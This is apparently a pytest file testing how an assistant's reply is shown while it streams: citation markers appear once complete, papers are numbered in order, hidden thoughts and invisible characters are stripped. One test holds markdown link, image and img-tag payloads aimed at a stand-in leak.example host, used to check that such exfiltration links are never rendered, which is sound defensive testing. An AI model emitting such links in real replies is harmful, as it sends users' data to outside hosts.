"""What is shown of a reply while it is written: whole markers only, numbered as in the answer, and nothing hidden."""

from __future__ import annotations

import re

import pytest

from assistant.models import Paper
from assistant.steps.check import read_reply
from assistant.steps.drafting import draft
from assistant.steps.write import marked
from assistant.writers.naming import names
from tests.invented import KEEPER, LENS, RYE

SHOWN: dict[str, Paper] = {paper.id: paper for paper in (KEEPER, LENS, RYE)}
_MARK = re.compile(r"\[(\d+)\]")


def growing(reply: str) -> list[str]:
    """The draft after each letter."""
    return [draft(reply[:length], SHOWN).text for length in range(len(reply) + 1)]


def answered(reply: str) -> str:
    """The reply as its answer has it."""
    numbers: dict[str, int] = {}
    named = {paper_id: names(paper) for paper_id, paper in SHOWN.items()}
    return " ".join(
        marked(claim.text, [numbers.setdefault(one, len(numbers) + 1) for one in claim.paper_ids])
        for claim in read_reply(reply, tuple(SHOWN), named).claims
    )


@pytest.mark.parametrize(
    "marker",
    [
        "[3]",
        "[3, 1]",
        "[1-3]",
        "(3)",
        "(1, 3)",
        "【3】",
        "【3†source】",
        "[^3]",
        "[3][1]",
        "［3］",
        "\\[3\\]",
        "**[3]**",
    ],
)
def test_a_marker_is_shown_when_it_is_complete_and_not_before(marker: str) -> None:
    reply = f"Gulls line their nests {marker}."
    for drafted in growing(reply):
        assert re.fullmatch(r"[\w .*\\]*(?: \[\d\])*", drafted), drafted
    assert growing(reply)[-1] == answered(reply)
    assert "[1]" in growing(reply)[-2], "as soon as its bracket is closed"


def test_papers_are_numbered_by_first_appearance_and_stay_so() -> None:
    reply = "Rye grows tall [3]. Lenses bend light [2][3]. Keepers keep [1]."
    whole = draft(reply, SHOWN)
    assert whole.text == "Rye grows tall. [1] Lenses bend light. [2] [1] Keepers keep. [3]" == answered(reply)
    assert [(one.number, one.paper) for one in whole.references] == [(1, RYE), (2, LENS), (3, KEEPER)]
    for length in range(len(reply)):
        partial = draft(reply[:length], SHOWN)
        assert partial.references == whole.references[: len(partial.references)]
        assert {int(mark) for mark in _MARK.findall(partial.text)} == {one.number for one in partial.references}


def test_what_was_not_shown_to_the_model_is_no_citation() -> None:
    assert draft("Rye grows tall [7].", SHOWN).text == "Rye grows tall."
    assert draft("Rye grows tall [Smith 2019][?].", SHOWN).references == ()
    assert not any("7" in drafted for drafted in growing("Rye grows tall [7]."))


def test_thoughts_are_never_shown() -> None:
    for tag in ("think", "reasoning"):
        for drafted in growing(f"<{tag}>a secret plan [1]</{tag}>Rye grows tall [3]."):
            assert "Rye grows tall. [1]".startswith(drafted.removesuffix(" [1]"))


@pytest.mark.parametrize(
    "reply",
    [
        "Rye ![grows](http://leak.example/?q=secret) tall [3].",
        "Rye [grows](http://leak.example/?q=secret) tall [3].",
        "Rye <img src='http://leak.example/?q=secret'>grows</img> tall [3].",
        "Rye grows tall [3](http://leak.example/).",
        "Rye grows tall [3].\n\n[3]: http://leak.example/?q=secret",
    ],
)
def test_links_and_images_are_never_shown_as_such(reply: str) -> None:
    for drafted in growing(reply):
        assert not re.search(r"\]\(|!\[|<img|leak\.example|\w://\w", drafted), drafted


def test_invisible_characters_are_not_shown() -> None:
    assert draft("Rye\u202e gr\u200bows\x1b tall.", SHOWN).text == "Rye grows tall."


def test_an_open_bracket_that_never_closes_does_not_hold_the_text_back() -> None:
    assert draft("Rye [" + "grows " * 40 + "tall", SHOWN).text.endswith("tall")
    assert draft("It holds for p < 0.05 and a <b", SHOWN).text.startswith("It holds for p < 0.05 and a")


def test_that_the_model_finds_nothing_is_not_drafted() -> None:
    assert set(growing("NO EVIDENCE")) == {""}
    assert draft("No evidence", SHOWN).text == ""
    assert draft("Now it grows", SHOWN).text == "Now it grows"
